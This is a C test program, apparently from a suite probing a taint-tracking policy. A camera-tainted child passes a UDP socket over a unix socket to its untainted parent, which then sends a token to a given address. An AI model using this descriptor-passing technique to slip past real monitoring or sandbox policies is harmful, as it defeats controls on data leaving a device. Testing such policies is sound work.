/* socket_handoff.c - attack: a tainted child makes a UDP socket and hands it to its untainted parent over a named unix socket; the parent sends from it to a third party. */
#include <signal.h>
#include <sys/un.h>
#include <sys/wait.h>

#include "attack.h"

#define ROUTE "socket_handoff"

/* The child's part: tainted, it makes the socket and passes it over the parent's named socket. */
static void child(const char *camera, int family, const struct sockaddr_un *sun, socklen_t ulen)
{
	char ctl[CMSG_SPACE(sizeof(int))] = "", byte = 'S';
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl,
			      .msg_controllen = sizeof(ctl) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
	int s, u;

	at_taint(ROUTE, camera);
	s = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	u = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0 || u < 0 || connect(u, (const struct sockaddr *)sun, ulen) < 0)
		_exit(1);	/* the parent says so: it gets no socket */
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &s, sizeof(s));
	if (sendmsg(u, &msg, 0) < 0)
		_exit(1);
	pause();
	_exit(0);
}

/* The socket the child passed on the accepted connection C, or -1. */
static int receive_socket(int c)
{
	char ctl[CMSG_SPACE(sizeof(int))], byte;
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl,
			      .msg_controllen = sizeof(ctl) };
	struct cmsghdr *cm;
	int fd;

	if (recvmsg(c, &msg, 0) <= 0 || !(cm = CMSG_FIRSTHDR(&msg)) || cm->cmsg_type != SCM_RIGHTS)
		return -1;
	memcpy(&fd, CMSG_DATA(cm), sizeof(fd));
	return fd;
}

/*
 * usage: socket_handoff CAMERA A.B.C.D:PORT /PATH
 * The parent never opens a camera. It listens at /PATH (a name the policy
 * lets the child reach; a named socket carries no taint to its server,
 * and the parent reads nothing else the child wrote), takes the UDP
 * socket its tainted child made, and sends from it. Only the socket
 * itself can say it is tainted.
 */
int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	struct sockaddr_un sun;
	socklen_t len, ulen;
	char tok[128];
	int l, c = -1, fd = -1, rc = 0;
	size_t n;
	pid_t pid;

	if (argc != 4) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT /PATH\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[2], &ss, &len);
	if (!at_unix_addr(argv[3], &sun, &ulen)) {
		at_result(ROUTE, "error", "bad unix address \"%s\"", argv[3]);
		return 1;
	}
	l = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (l < 0 || bind(l, (struct sockaddr *)&sun, ulen) < 0 || listen(l, 1) < 0)
		return at_report_errno(ROUTE, "listen", errno);
	fflush(stdout);
	pid = fork();
	if (pid < 0)
		return at_report_errno(ROUTE, "fork", errno);
	if (pid == 0)
		child(argv[1], ss.ss_family, &sun, ulen);
	c = accept(l, NULL, NULL);
	if (c >= 0)
		fd = receive_socket(c);
	if (fd < 0) {
		at_result(ROUTE, "error", "the tainted child passed no socket");
		rc = 1;
	} else {
		n = at_token(tok, sizeof(tok), ROUTE);
		if (sendto(fd, tok, n, 0, (const struct sockaddr *)&ss, len) != (ssize_t)n)
			rc = at_report_errno(ROUTE, "sendto on the tainted child's socket", errno);
		else
			at_result(ROUTE, "through", "the untainted parent sent %zu bytes on the socket its tainted child made",
				  n);
	}
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	unlink(argv[3]);
	return rc;
}
